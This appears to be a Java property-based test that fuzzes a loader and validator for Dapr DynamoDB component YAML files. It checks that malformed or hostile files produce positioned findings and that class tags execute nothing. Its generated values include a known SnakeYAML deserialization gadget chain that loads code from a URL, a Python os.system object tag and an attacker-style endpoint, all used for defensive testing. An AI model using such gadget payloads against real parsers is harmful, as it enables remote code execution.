package io.statedesk.component;

import static org.assertj.core.api.Assertions.assertThat;

import io.statedesk.component.model.ComponentManifest;
import io.statedesk.component.model.ComponentSet;
import io.statedesk.component.model.DynamoDbComponentConfig;
import io.statedesk.component.model.Violation;
import io.statedesk.component.validation.ComponentValidator;
import io.statedesk.component.yaml.ComponentFileReader;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * The component loader and validator under generated files (issue 13): components built from daprd's fields and
 * then damaged (lines dropped, repeated, re-indented, tags, anchors, document separators, stray bytes). Whatever the
 * file, loading and validating return findings with a position; no exception escapes, and a class tag runs no code.
 */
class ComponentLoaderPropertyTest {

    private static Path dir;

    @BeforeContainer
    static void createFolder() throws IOException {
        dir = Files.createTempDirectory("statedesk-loader-properties");
    }

    @AfterContainer
    static void deleteFolder() throws IOException {
        try (var files = Files.list(dir)) {
            for (Path file : files.toList()) {
                Files.deleteIfExists(file);
            }
        }
        Files.deleteIfExists(dir);
    }

    @Property(tries = 2000)
    void anyFile_loadsAndValidates_intoFindingsWithAPosition(@ForAll("componentFiles") String text)
            throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.write(file, text.getBytes(StandardCharsets.UTF_8));

        ComponentSet set = ComponentLoader.load(file);
        List<Violation> findings = ComponentValidator.validate(set);

        assertThat(findings).allSatisfy(v -> {
            assertThat(v.message()).isNotBlank();
            assertThat(v.line()).isGreaterThanOrEqualTo(0);
        });
        for (ComponentManifest manifest : set.dynamoDbComponents()) {
            DynamoDbComponentConfig config = DynamoDbComponentConfig.from(manifest);
            // Credentials are Secrets: whatever the file holds, printing the settings never shows them.
            assertThat(config.secretKey().toString()).doesNotContain("s3cr3t-value");
            try {
                PreparedStore.prepare(set, manifest, Map.of("DDB_ENDPOINT", "http://localhost:8000"), null, null);
            } catch (io.statedesk.component.aws.AwsSetupException e) {
                // A documented refusal (for example IAM Roles Anywhere): it must say what and what to do.
                assertThat(e.getMessage()).isNotBlank();
                assertThat(e.fix()).isNotBlank();
            }
        }
    }

    @Property(tries = 1000)
    void anyBytes_areReadOrRefused(@ForAll byte[] bytes) {
        var loaded = ComponentFileReader.parse(dir.resolve("bytes.yaml"), bytes);

        // Read (possibly with findings) or refused with exactly one reason; every finding says something.
        assertThat(loaded.wasRead() || loaded.problems().size() == 1).isTrue();
        assertThat(loaded.problems()).allSatisfy(v -> assertThat(v.message()).isNotBlank());
        assertThat(loaded.components()).allSatisfy(c -> assertThat(c.file()).isEqualTo(dir.resolve("bytes.yaml")));
    }

    @Provide
    Arbitrary<String> componentFiles() {
        Arbitrary<List<String>> lines = documents().list().ofMinSize(1).ofMaxSize(3)
                .map(docs -> {
                    List<String> all = new ArrayList<>();
                    for (String doc : docs) {
                        all.add("---");
                        all.addAll(List.of(doc.split("\n", -1)));
                    }
                    return all;
                });
        return Combinators.combine(lines, damage().list().ofMaxSize(6)).as((original, edits) -> {
            List<String> edited = new ArrayList<>(original);
            for (Edit edit : edits) {
                edit.apply(edited);
            }
            return String.join("\n", edited);
        });
    }

    private Arbitrary<String> documents() {
        Arbitrary<String> item = Combinators.combine(fieldNames(), values()).as((name, value) ->
                "  - name: " + name + "\n" + value);
        Arbitrary<String> dynamo = item.list().ofMaxSize(12).map(items -> "apiVersion: dapr.io/v1alpha1\n"
                + "kind: Component\nmetadata:\n  name: statestore\nspec:\n  type: state.aws.dynamodb\n"
                + "  version: v1\n  metadata:\n" + String.join("\n", items) + "\nauth:\n  secretStore: local\n");
        Arbitrary<String> secrets = Arbitraries.just("apiVersion: dapr.io/v1alpha1\nkind: Component\nmetadata:\n"
                + "  name: local\nspec:\n  type: secretstores.local.env\n  version: v1\n");
        return Arbitraries.frequencyOf(Tuple.of(5, dynamo), Tuple.of(1, secrets),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(60)));
    }

    private Arbitrary<String> fieldNames() {
        return Arbitraries.of("table", "endpoint", "region", "awsRegion", "accessKey", "secretKey", "sessionToken",
                "ttlAttributeName", "partitionKey", "keyPrefix", "actorStateStore", "trustAnchorArn",
                "trustProfileArn", "assumeRoleArn", "Table", "tabel", "", "\"quoted\"", "&anchor table", "*alias",
                "!!java.net.URL", "[flow]", "{a: b}");
    }

    private Arbitrary<String> values() {
        Arbitrary<String> literal = Arbitraries.of("dapr-state", "\"\"", "''", "http://localhost:8000",
                "http://127.attacker.example", "us-east-1", "AKIAEXAMPLESECRET", "s3cr3t-value", "true", "~",
                "|\n      multi\n      line", ">-\n      folded", "!!binary aGk=",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "&a v", "*a", "[1, 2]", "{x: y}", "\"\\u00e9\\x\"", "12345678901234567890", "\"||\"");
        return Arbitraries.oneOf(
                literal.map(v -> "    value: " + v),
                Arbitraries.of("    secretKeyRef:\n      name: creds\n      key: id",
                        "    secretKeyRef:\n      name: \"\"", "    envRef: DDB_ENDPOINT", "    envRef: \"\"",
                        "    value:", ""));
    }

    /** One change to a file's lines. */
    private record Edit(int kind, int at, String text) {
        void apply(List<String> lines) {
            if (lines.isEmpty()) {
                lines.add(text);
                return;
            }
            int i = Math.floorMod(at, lines.size());
            switch (kind) {
                case 0 -> lines.remove(i);
                case 1 -> lines.add(i, lines.get(i));
                case 2 -> lines.set(i, " " + lines.get(i));
                case 3 -> lines.set(i, lines.get(i).stripLeading());
                case 4 -> lines.add(i, text);
                default -> lines.set(i, lines.get(i) + text);
            }
        }
    }

    private Arbitrary<Edit> damage() {
        Arbitrary<String> inserted = Arbitraries.of("---", "--- trailing", "...", "\t", "- ", ":", "&x", "*x",
                "!!python/object:os.system", "%YAML 1.1", "? complex", "{", "]", "\uFEFF", "\u0000", "#", "'",
                "key: [a, *y]");
        return Combinators.combine(Arbitraries.integers().between(0, 5), Arbitraries.integers(), inserted)
                .as(Edit::new);
    }
}
